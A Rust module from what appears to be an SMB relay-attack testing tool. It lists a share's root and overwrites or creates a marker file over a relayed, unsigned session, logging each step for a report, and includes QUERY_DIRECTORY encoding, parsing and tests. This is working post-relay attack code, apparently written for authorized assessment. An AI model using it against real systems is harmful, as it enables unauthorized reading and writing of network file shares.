//! What the attacker does with a relayed session: list the share root and write a marker
//! file. Every request is unsigned (the relay has no session key) and is one step of the
//! report; the first refusal stops the attack.

use smb_core::codec::{from_utf16le, utf16le, DecodeError, Reader, Writer};
use smb_core::header::{Command, HEADER_LEN};
use smb_core::messages::close::{CloseRequest, CloseResponse};
use smb_core::messages::create::{
    access, create_options, file_attributes, share_access, CreateDisposition, CreateRequest,
    CreateResponse, ImpersonationLevel, OplockLevel,
};
use smb_core::messages::write::{WriteRequest, WriteResponse};
use smb_core::messages::{EncodeBody, FileId};

use crate::relay::{RelayAttempt, TargetConn};

/// Lists the share root: CREATE (directory), QUERY_DIRECTORY "*", CLOSE.
/// Returns the names, or None when a step was refused.
pub(crate) async fn list_root(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
) -> Option<Vec<String>> {
    let open = CreateRequest {
        requested_oplock_level: OplockLevel::NONE,
        impersonation_level: ImpersonationLevel::IMPERSONATION,
        desired_access: access::FILE_LIST_DIRECTORY
            | access::FILE_READ_ATTRIBUTES
            | access::SYNCHRONIZE,
        file_attributes: 0,
        share_access: share_access::READ | share_access::WRITE | share_access::DELETE,
        create_disposition: CreateDisposition::OPEN,
        create_options: create_options::DIRECTORY_FILE,
        name: String::new(),
        ..CreateRequest::default()
    };
    let file_id = open_file(t, attempt, "CREATE", "share root (directory)", &open).await?;
    let mut names = Vec::new();
    let query = QueryDirectoryRequest {
        file_id,
        pattern: "*".into(),
        output_buffer_length: 65536,
    };
    let h = t
        .step(
            attempt,
            "QUERY_DIRECTORY",
            "\"*\" in the share root",
            &query,
            |m| {
                names = QueryDirectoryResponse::read(m)?.names;
                Ok(())
            },
        )
        .await;
    close(t, attempt, file_id).await;
    h.map(|_| {
        names.retain(|n| n != "." && n != "..");
        names
    })
}

/// Creates (or overwrites) `path` and writes `data` to it: CREATE, WRITE, CLOSE.
/// True when the WRITE was accepted in full.
pub(crate) async fn write_file(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
    path: &str,
    data: &[u8],
) -> bool {
    let name = path.trim_start_matches(['\\', '/']).replace('/', "\\");
    let open = CreateRequest {
        requested_oplock_level: OplockLevel::NONE,
        impersonation_level: ImpersonationLevel::IMPERSONATION,
        desired_access: access::FILE_WRITE_DATA
            | access::FILE_READ_ATTRIBUTES
            | access::SYNCHRONIZE,
        file_attributes: file_attributes::NORMAL,
        share_access: share_access::READ,
        create_disposition: CreateDisposition::OVERWRITE_IF,
        create_options: create_options::NON_DIRECTORY_FILE,
        name: name.clone(),
        ..CreateRequest::default()
    };
    let Some(file_id) = open_file(t, attempt, "CREATE", &format!("marker {name}"), &open).await
    else {
        return false;
    };
    let write = WriteRequest {
        offset: 0,
        file_id,
        data: data.to_vec(),
        ..WriteRequest::default()
    };
    let mut count = 0u32;
    let detail = format!("{} bytes to {name}", data.len());
    let ok = t
        .step(attempt, "WRITE", &detail, &write, |m| {
            count = WriteResponse::read(m)?.count;
            Ok(())
        })
        .await
        .is_some();
    close(t, attempt, file_id).await;
    ok && count as usize == data.len()
}

async fn open_file(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
    request: &str,
    detail: &str,
    body: &CreateRequest,
) -> Option<FileId> {
    let mut file_id = None;
    t.step(attempt, request, detail, body, |m| {
        file_id = Some(CreateResponse::read(m)?.file_id);
        Ok(())
    })
    .await?;
    file_id
}

async fn close(t: &mut TargetConn, attempt: &mut RelayAttempt, file_id: FileId) {
    let req = CloseRequest { flags: 0, file_id };
    let _ = t
        .step(attempt, "CLOSE", "", &req, |m| {
            CloseResponse::read(m).map(|_| ())
        })
        .await;
}

/// FileInformationClass FileDirectoryInformation (MS-FSCC 2.4.10).
const FILE_DIRECTORY_INFORMATION: u8 = 0x01;
/// QUERY_DIRECTORY Flags: SMB2_RESTART_SCANS (MS-SMB2 2.2.33).
const RESTART_SCANS: u8 = 0x01;

/// SMB2 QUERY_DIRECTORY request (MS-SMB2 2.2.33), only what the relay needs.
#[derive(Debug, Clone)]
struct QueryDirectoryRequest {
    file_id: FileId,
    pattern: String,
    output_buffer_length: u32,
}

impl EncodeBody for QueryDirectoryRequest {
    const COMMAND: Option<Command> = Some(Command::QUERY_DIRECTORY);
    fn encode_body(&self, out: &mut Vec<u8>) {
        let name = utf16le(&self.pattern);
        out.put_u16(33);
        out.put_u8(FILE_DIRECTORY_INFORMATION);
        out.put_u8(RESTART_SCANS);
        out.put_u32(0); // FileIndex
        self.file_id.encode(out);
        let off_at = out.len();
        out.put_u16(0);
        out.put_u16(u16::try_from(name.len()).unwrap_or(0));
        out.put_u32(self.output_buffer_length);
        let off = out.len();
        out.put_bytes(&name);
        out.patch_u16(off_at, u16::try_from(off).unwrap_or(0));
    }
}

/// SMB2 QUERY_DIRECTORY response (MS-SMB2 2.2.34) holding FileDirectoryInformation entries.
#[derive(Debug, Clone)]
struct QueryDirectoryResponse {
    names: Vec<String>,
}

impl QueryDirectoryResponse {
    fn read(message: &[u8]) -> Result<Self, DecodeError> {
        const W: &str = "QUERY_DIRECTORY response";
        let mut r = Reader::new(message);
        r.skip(HEADER_LEN, W)?;
        if r.u16(W)? != 9 {
            return Err(DecodeError::invalid(W, "StructureSize must be 9"));
        }
        let off = usize::from(r.u16(W)?);
        let len = r.u32(W)? as usize;
        let buf = smb_core::codec::slice_at(message, off, len, W)?;
        let mut names = Vec::new();
        let mut at = 0usize;
        // MS-FSCC 2.4.10: NextEntryOffset (4) ... FileNameLength at 60, FileName at 64.
        loop {
            let entry = buf.get(at..).unwrap_or_default();
            let mut e = Reader::new(entry);
            let next = e.u32(W)? as usize;
            e.skip(56, W)?;
            let name_len = e.u32(W)? as usize;
            let name = smb_core::codec::slice_at(entry, 64, name_len, W)?;
            names.push(from_utf16le(name, W)?);
            if next == 0 {
                return Ok(QueryDirectoryResponse { names });
            }
            // Entries only move forward, so this ends.
            at = at
                .checked_add(next)
                .ok_or_else(|| DecodeError::invalid(W, "entry offset"))?;
            if names.len() > 100_000 {
                return Err(DecodeError::invalid(W, "too many entries"));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use smb_core::header::{Header, NtStatus};

    fn entry(name: &str, last: bool) -> Vec<u8> {
        let n = utf16le(name);
        let mut e = Vec::new();
        let total = (64 + n.len()).next_multiple_of(8);
        e.put_u32(if last { 0 } else { total as u32 });
        e.put_zeros(56);
        e.put_u32(n.len() as u32);
        e.put_bytes(&n);
        if !last {
            e.resize(total, 0);
        }
        e
    }

    #[test]
    fn directory_listing_parses_and_rejects_garbage() {
        let mut m = Vec::new();
        Header::request(Command::QUERY_DIRECTORY, 3, 1, 1)
            .response(NtStatus::SUCCESS)
            .encode(&mut m);
        let mut buf = entry(".", false);
        buf.extend(entry("secret.txt", false));
        buf.extend(entry("é.doc", true));
        m.put_u16(9);
        m.put_u16(72);
        m.put_u32(buf.len() as u32);
        m.put_bytes(&buf);
        let r = QueryDirectoryResponse::read(&m).unwrap();
        assert_eq!(r.names, [".", "secret.txt", "é.doc"]);
        // A name length past the buffer, and a truncated buffer, are errors.
        let mut bad = m.clone();
        bad[72 + 60] = 0xFF;
        assert!(QueryDirectoryResponse::read(&bad).is_err());
        assert!(QueryDirectoryResponse::read(&m[..100]).is_err());
    }

    #[test]
    fn query_directory_request_layout() {
        let q = QueryDirectoryRequest {
            file_id: FileId {
                persistent: 1,
                volatile: 2,
            },
            pattern: "*".into(),
            output_buffer_length: 4096,
        };
        let mut m = Vec::new();
        Header::request(Command::QUERY_DIRECTORY, 3, 1, 1).encode(&mut m);
        q.encode_body(&mut m);
        assert_eq!(m.len(), 64 + 32 + 2);
        assert_eq!(u16::from_le_bytes([m[88], m[89]]), 96, "FileNameOffset");
        assert_eq!(&m[96..], &[b'*', 0]);
    }
}
